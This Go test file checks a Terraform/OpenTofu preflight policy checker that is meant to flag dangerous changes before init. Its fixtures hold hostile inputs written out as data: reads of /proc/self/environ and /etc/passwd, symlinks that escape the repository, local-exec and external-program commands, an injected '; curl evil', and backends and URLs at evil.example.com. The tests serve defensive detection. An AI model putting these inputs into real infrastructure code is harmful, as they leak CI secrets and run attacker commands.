package runner

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/mooring-iac/mooring/policies"
	"github.com/mooring-iac/mooring/policies/preflight"
	"github.com/mooring-iac/mooring/workspace"
)

// baseline is what the branch has: it uses a provider, a module of a registry, a data
// source that runs a script, and a template.
const baseline = `-- app/main.tf --
terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "~> 5.0" }
  }
  backend "s3" { bucket = "states" }
}
module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.1.0"
}
module "shared" { source = "../modules/shared" }
data "external" "old" { program = ["sh", "${path.module}/old.sh"] }
resource "aws_instance" "web" {
  ami       = "ami-1"
  user_data = templatefile("${path.module}/user.tpl", { name = "web" })
}
-- app/old.sh --
echo '{}'
-- app/user.tpl --
hello ${name}
-- app/.terraform.lock.hcl --
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:one"]
}
-- modules/shared/main.tf --
resource "aws_s3_bucket" "b" {}
`

// treeIn writes an archive into a directory, over what an earlier one wrote. A file whose
// only line is "-> target" is a link.
func treeIn(t *testing.T, archives ...string) (workspace.Tree, string) {
	t.Helper()
	dir := t.TempDir()
	for _, archive := range archives {
		for _, f := range txtar.Parse([]byte(archive)).Files {
			p := filepath.Join(dir, f.Name)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			_ = os.Remove(p)
			if to, ok := strings.CutPrefix(strings.TrimSpace(string(f.Data)), "-> "); ok {
				if err := os.Symlink(to, p); err != nil {
					t.Fatal(err)
				}
			} else if err := os.WriteFile(p, f.Data, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	tree, err := workspace.WorkingCopy(dir)
	if err != nil {
		t.Fatal(err)
	}
	return tree, dir
}

func usesInTree(t *testing.T, tree workspace.Tree) []workspace.Use {
	t.Helper()
	g, err := workspace.NewScanner(workspace.ScannerOptions{}).Scan(t.Context(), tree)
	if err != nil {
		t.Fatal(err)
	}
	u := g.Unit("app")
	if u == nil {
		t.Fatalf("there is no unit app: %v", g.Order())
	}
	reader, err := workspace.NewUsesReader(tree)
	if err != nil {
		t.Fatal(err)
	}
	all, err := reader.Of(u)
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func judged(t *testing.T, rules preflight.Rules, change string) []policies.Finding {
	t.Helper()
	base, _ := treeIn(t, baseline)
	head, _ := treeIn(t, baseline, change)
	return preflight.Judge(rules, usedBy(usesInTree(t, head)), usedBy(usesInTree(t, base)))
}

func TestAttacksAreFoundBeforeInit(t *testing.T) {
	for _, c := range []struct{ name, change, want string }{ // want: rule file:line
		{"an external data source", "-- app/x.tf --\n\ndata \"external\" \"x\" { program = [\"id\"] }\n", "data app/x.tf:2"},
		{"the same in JSON", "-- app/x.tf.json --\n{\n \"data\": {\n  \"external\": {\n   \"x\": {\"program\": [\"id\"]}\n  }\n }\n}\n", "data app/x.tf.json:4"},
		{"the same in a list of JSON", "-- app/x.tf.json --\n{\"data\": [{\"external\": [{\"x\": [{\"program\": [\"id\"]}]}]}]}\n", "data app/x.tf.json:1"},
		{"another program of a known one", "-- app/old.sh --\ncat /proc/self/environ\n", "data app/main.tf:12"},
		{"another program by way of a local", "-- app/x.tf --\nlocals { program = [\"id\"] }\n-- app/old_override.tf --\ndata \"external\" \"old\" { program = local.program }\n", "data app/old_override.tf:1"},
		{"an http data source", "-- app/x.tf --\ndata \"http\" \"x\" { url = \"https://evil.example.com\" }\n", "data app/x.tf:1"},
		{"an http data source in JSON", "-- app/x.tf.json --\n{\"data\":{\"http\":{\"x\":{\"url\":\"https://evil.example.com\"}}}}\n", "data app/x.tf.json:1"},
		{"in a local module", "-- modules/shared/x.tf --\ndata \"http\" \"x\" { url = \"https://evil.example.com\" }\n", "data modules/shared/x.tf:1"},
		{"in a module that is called newly", "-- app/x.tf --\nmodule \"n\" { source = \"../modules/new\" }\n-- modules/new/x.tf --\ndata \"http\" \"x\" { url = \"https://evil.example.com\" }\n", "data modules/new/x.tf:1"},
		{"in a check", "-- app/x.tf --\ncheck \"x\" {\n  data \"http\" \"x\" { url = \"https://evil.example.com\" }\n}\n", "data app/x.tf:2"},
		{"in a file that only OpenTofu reads", "-- app/x.tofu --\ndata \"http\" \"x\" { url = \"https://evil.example.com\" }\n", "data app/x.tofu:1"},
		{"escaped in JSON", "-- app/x.tf.json --\n{\"output\":{\"x\":{\"value\":\"${\\u0066ile(\\u0022/proc/self/environ\\u0022)}\"}}}\n", "function app/x.tf.json:1"},
		{"two sources of a provider", "-- app/x.tf --\nterraform {\n  required_providers {\n    aws = {\n      source = \"hashicorp/aws\"\n      source = \"evil/evil\"\n    }\n  }\n}\n", "provider app/x.tf:3"},
		{"a file that cannot be parsed", "-- app/x.tf --\nresource {\n", "unread app/x.tf:1"},
		{"an ephemeral resource", "-- app/x.tf --\nephemeral \"local_command\" \"x\" {}\n", "data app/x.tf:1"},
		{"local-exec", "-- app/x.tf --\nresource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n", "provisioner app/x.tf:2"},
		{"local-exec in JSON", "-- app/x.tf.json --\n{\"resource\":{\"terraform_data\":{\"x\":{\n\"provisioner\":{\"local-exec\":{\"command\":\"id\"}}}}}}\n", "provisioner app/x.tf.json:2"},
		{"local-exec in a list of JSON", "-- app/x.tf.json --\n{\"resource\":[{\"terraform_data\":[{\"x\":[{\"provisioner\":[{\"local-exec\":[{\"command\":\"id\"}]}]}]}]}]}\n", "provisioner app/x.tf.json:1"},
		{"local-exec in an override", "-- app/x_override.tf --\nresource \"aws_instance\" \"web\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n", "provisioner app/x_override.tf:2"},
		{"a module of a Git branch", "-- app/x.tf --\nmodule \"x\" {\n  source = \"git::https://example.com/x.git?ref=main\"\n}\n", "module app/x.tf:2"},
		{"a module of a Git branch in JSON", "-- app/x.tf.json --\n{\"module\":{\"x\":{\"source\":\"git::https://example.com/x.git?ref=main\"}}}\n", "module app/x.tf.json:1"},
		{"another version of a module", "-- app/x_override.tf --\nmodule \"vpc\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n  version = \"5.2.0\"\n}\n", "module app/x_override.tf:2"},
		{"a module outside the repository", "-- app/x.tf --\nmodule \"x\" { source = \"../../elsewhere\" }\n", "module app/x.tf:1"},
		{"an unknown provider", "-- app/x.tf --\nterraform {\n  required_providers {\n    evil = { source = \"evil/evil\" }\n  }\n}\n", "provider app/x.tf:3"},
		{"an unknown provider in JSON", "-- app/x.tf.json --\n{\"terraform\":{\"required_providers\":{\n\"evil\":{\"source\":\"evil/evil\"}}}}\n", "provider app/x.tf.json:2"},
		{"a provider that is only implied", "-- app/x.tf --\nresource \"null_resource\" \"x\" {}\n", "provider app/x.tf:1"},
		{"a provider that runs a command", "-- app/x.tf --\nprovider \"aws\" {\n  credential_process = \"id\"\n}\n", "exec app/x.tf:1"},
		{"file of /proc", "-- app/x.tf --\noutput \"x\" { value = file(\"/proc/self/environ\") }\n", "function app/x.tf:1"},
		{"file of /proc in JSON", "-- app/x.tf.json --\n{\"output\":{\"x\":{\n\"value\":\"${file(\\\"/proc/self/environ\\\")}\"}}}\n", "function app/x.tf.json:2"},
		{"fileset of /proc", "-- app/x.tf --\noutput \"x\" { value = fileset(\"/proc\", \"*/environ\") }\n", "function app/x.tf:1"},
		{"fileset that leaves", "-- app/x.tf --\noutput \"x\" { value = fileset(path.module, \"../../*\") }\n", "function app/x.tf:1"},
		{"templatefile that leaves", "-- app/x.tf --\noutput \"x\" { value = templatefile(\"${path.module}/../../etc/passwd\", {}) }\n", "function app/x.tf:1"},
		{"a path by way of a local", "-- app/x.tf --\nlocals { p = \"/proc/self/environ\" }\noutput \"x\" { value = file(local.p) }\n", "function app/x.tf:2"},
		{"a path by way of a variable", "-- app/x.tf --\nvariable \"p\" {}\noutput \"x\" { value = file(\"${path.root}/${var.p}\") }\n", "function app/x.tf:2"},
		{"a path by way of path.root", "-- app/x.tf --\noutput \"x\" { value = file(\"${path.root}/../../../proc/self/environ\") }\n", "function app/x.tf:1"},
		{"the core name of a function", "-- app/x.tf --\noutput \"x\" { value = core::file(\"/proc/self/environ\") }\n", "function app/x.tf:1"},
		{"in the template itself", "-- app/user.tpl --\n${file(\"/proc/self/environ\")}\n", "function app/user.tpl:1"},
		{"a link that leaves", "-- app/evil.txt --\n-> ../../etc/passwd\n-- app/x.tf --\noutput \"x\" { value = file(\"${path.module}/evil.txt\") }\n", "function app/x.tf:1"},
		{"symlinked tfvars", "-- app/terraform.tfvars --\n-> ../other/secret.tfvars\n-- other/secret.tfvars --\na = 1\n", "link app/terraform.tfvars:1"},
		{"a changed lock file", "-- app/.terraform.lock.hcl --\nprovider \"registry.terraform.io/hashicorp/aws\" {\n  version = \"5.0.0\"\n  hashes  = [\"h1:two\"]\n}\n", "lock_file app/.terraform.lock.hcl:1"},
		{"a lock that is gone", "-- app/.terraform.lock.hcl --\n# nothing is held any more\n", "lock_file app/main.tf:3"},
		{"another backend", "-- app/x_override.tf --\nterraform {\n  backend \"http\" { address = \"https://evil.example.com\" }\n}\n", "backend app/x_override.tf:2"},
		{"another backend in JSON", "-- app/x_override.tf.json --\n{\"terraform\":{\n\"backend\":{\"http\":{\"address\":\"https://evil.example.com\"}}}}\n", "backend app/x_override.tf.json:2"},
		{"the same backend elsewhere", "-- app/x_override.tf --\nterraform {\n  backend \"s3\" { bucket = \"mine\" }\n}\n", "backend app/x_override.tf:2"},
		{"somebody's state", "-- app/x.tf --\ndata \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config = { bucket = \"other\" }\n}\n", "remote_state app/x.tf:1"},
		{"somebody's state in JSON", "-- app/x.tf.json --\n{\"data\":{\"terraform_remote_state\":{\"x\":{\"backend\":\"s3\"}}}}\n", "remote_state app/x.tf.json:1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, effect := range []policies.Effect{policies.Ask, policies.Deny} {
				rules := preflight.Rules{}
				if effect == policies.Deny {
					rules.Mode = preflight.Denies
				}
				var said []string
				for _, f := range judged(t, rules, c.change) {
					if f.Effect != effect && f.Rule != "preflight.unread" || f.Remedy == "" || f.Message == "" {
						t.Errorf("%+v", f)
					}
					said = append(said, strings.TrimPrefix(f.Rule, "preflight.")+" "+f.Place())
				}
				if !slices.Contains(said, c.want) {
					t.Errorf("%s: %q is not among %q", effect, c.want, said)
				}
			}
			if all := judged(t, preflight.Rules{Mode: preflight.Off}, c.change); len(all) > 0 {
				t.Errorf("it is off, and says %v", all)
			}
		})
	}
}

// What the branch uses already is another thing once what decides about it has changed,
// wherever that stands.
func TestAKnownUseThatIsMadeToDoSomethingElseIsNew(t *testing.T) {
	base := `-- app/main.tf --
variable "dir" { default = "files" }
locals {
  path    = "${var.dir}/${local.name}"
  name    = "a.txt"
  program = module.m.program
}
module "m" {
  source  = "../m"
  command = "true"
}
data "external" "x" { program = local.program }
output "read" { value = file(local.path) }
output "each" { value = [for f in terraform_data.names.input : file(f)] }
resource "terraform_data" "names" { input = ["a.txt"] }
resource "terraform_data" "run" {
  input = "harmless"
  provisioner "local-exec" { command = "echo ${self.input}" }
}
-- app/terraform.tfvars --
dir = "files"
-- m/main.tf --
variable "command" {}
output "program" { value = ["sh", "-c", var.command] }
`
	for name, c := range map[string]struct{ old, new, rule string }{
		"a local": {`"a.txt"
  program`, `"../../proc/self/environ"
  program`, "function"},
		"the default of a variable":   {`default = "files"`, `default = "/proc/self"`, "function"},
		"a variable file":             {"\ndir = \"files\"", "\ndir = \"/proc/self\"", "function"},
		"another resource":            {`input = ["a.txt"]`, `input = ["/proc/self/environ"]`, "function"},
		"the resource around it":      {`"harmless"`, `"; curl evil"`, "provisioner"},
		"an argument of a module":     {`"true"`, `"curl evil"`, "data"},
		"an output of a local module": {`["sh", "-c", var.command]`, `["curl", "evil"]`, "data"},
	} {
		t.Run(name, func(t *testing.T) {
			changed := strings.Replace(base, c.old, c.new, 1)
			if changed == base {
				t.Fatal("nothing changed")
			}
			before, _ := treeIn(t, base)
			after, _ := treeIn(t, changed)
			all := preflight.Judge(preflight.Rules{}, usedBy(usesInTree(t, after)), usedBy(usesInTree(t, before)))
			if !slices.ContainsFunc(all, func(f policies.Finding) bool { return f.Rule == "preflight."+c.rule }) {
				t.Errorf("no preflight.%s in %v", c.rule, all)
			}
		})
	}
	before, _ := treeIn(t, base)
	tagged, _ := treeIn(t, base, "-- app/more.tf --\nresource \"terraform_data\" \"more\" { input = \"more\" }\n")
	if all := preflight.Judge(preflight.Rules{}, usedBy(usesInTree(t, tagged)), usedBy(usesInTree(t, before))); len(all) > 0 {
		t.Errorf("what none of it comes from: %v", all)
	}
}

func TestOrdinaryChangesNeedNobody(t *testing.T) {
	for name, change := range map[string]string{
		"nothing":              "",
		"tags":                 "-- app/x.tf --\nresource \"aws_instance\" \"more\" {\n  count = 2\n  tags = { a = \"b\" }\n}\n",
		"a constraint":         "-- app/x.tf --\nterraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\", version = \">= 5.0\" }\n  }\n}\n",
		"a local module":       "-- app/x.tf --\nmodule \"n\" { source = \"../modules/new\" }\n-- modules/new/x.tf --\nresource \"aws_s3_bucket\" \"x\" {}\n",
		"a data source of AWS": "-- app/x.tf --\ndata \"aws_ami\" \"x\" {}\n",
		"a file of its own":    "-- app/x.tf --\noutput \"x\" { value = file(\"${path.module}/user.tpl\") }\n",
		"words of a template":  "-- app/user.tpl --\ngood day ${name}\n",
		"import and moved":     "-- app/x.tf --\nmoved {\n  from = aws_instance.a\n  to = aws_instance.web\n}\nimport {\n  to = aws_instance.web\n  id = \"i-1\"\n}\n",
	} {
		t.Run(name, func(t *testing.T) {
			if all := judged(t, preflight.Rules{}, change); len(all) > 0 {
				t.Errorf("%v", all)
			}
		})
	}
}

func TestListsAreTheWholeOfWhatMayBe(t *testing.T) {
	git := "-- app/x.tf --\nmodule \"x\" { source = \"git::https://example.com/x.git?ref=%s\" }\n"
	for _, c := range []struct {
		name, change string
		rules        preflight.Rules
		want         string
	}{
		{"the base's provider is not listed", "", preflight.Rules{Providers: []string{"hashicorp/google"}}, "deny preflight.lock_file, deny preflight.provider"},
		{"a listed provider", "-- app/x.tf --\nresource \"null_resource\" \"x\" {}\n", preflight.Rules{Providers: []string{"hashicorp/*"}}, ""},
		{"a listed module that is not pinned", fmt.Sprintf(git, "main"), preflight.Rules{Modules: []string{"**"}}, "deny preflight.module"},
		{"a listed module that is pinned", fmt.Sprintf(git, strings.Repeat("a", 40)), preflight.Rules{Modules: []string{"git::https://example.com/**", "terraform-aws-modules/vpc/aws"}}, ""},
		{"a version that is listed", "", preflight.Rules{Providers: []string{"hashicorp/external", "hashicorp/aws ~> 5.0"}}, ""},
		{"a version that is not listed", "", preflight.Rules{Providers: []string{"hashicorp/external", "hashicorp/aws >= 6.0"}}, "deny preflight.lock_file"},
		{"versions are listed, and nothing holds it to one", "-- app/x.tf --\nresource \"null_resource\" \"x\" {}\n", preflight.Rules{Providers: []string{"hashicorp/external", "hashicorp/aws", "hashicorp/null ~> 3.0"}}, "deny preflight.provider"},
		{"nothing may be", "", preflight.Rules{DataSources: []string{}}, "deny preflight.data"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var said []string
			for _, f := range judged(t, c.rules, c.change) {
				said = append(said, string(f.Effect)+" "+f.Rule)
			}
			if got := strings.Join(slices.Compact(said), ", "); got != c.want {
				t.Errorf("it says %q, want %q", got, c.want)
			}
		})
	}
}

func TestTheServersOwnOverridesAreDenied(t *testing.T) {
	uses := workspace.CLIOverrides("cli.tfrc", []byte("provider_installation {\n  dev_overrides {\n    \"hashicorp/aws\" = \"/tmp/evil\"\n  }\n  direct {}\n}\n"))
	all := preflight.Judge(preflight.Rules{}, usedBy(uses), nil)
	if len(all) != 1 || all[0].Effect != policies.Deny || all[0].Place() != "cli.tfrc:2" {
		t.Errorf("it says %v", all)
	}
}

func BenchmarkPreflight(b *testing.B) {
	dir := b.TempDir()
	for i := range 500 {
		var s strings.Builder
		for n := range 10 {
			fmt.Fprintf(&s, "resource \"aws_instance\" \"r%d_%d\" {\n  ami = \"ami-%d\"\n  tags = { Name = \"${var.name}-%d\", file = file(\"${path.module}/user.tpl\") }\n}\n", i, n, n, n)
		}
		if err := os.MkdirAll(filepath.Join(dir, "app"), 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "app", fmt.Sprintf("f%d.tf", i)), []byte(s.String()), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	tree, err := workspace.WorkingCopy(dir)
	if err != nil {
		b.Fatal(err)
	}
	g, err := workspace.NewScanner(workspace.ScannerOptions{}).Scan(b.Context(), tree)
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		reader, err := workspace.NewUsesReader(tree)
		if err != nil {
			b.Fatal(err)
		}
		all, err := reader.Of(g.Unit("app"))
		if err != nil {
			b.Fatal(err)
		}
		preflight.Judge(preflight.Rules{}, usedBy(all), nil)
	}
}
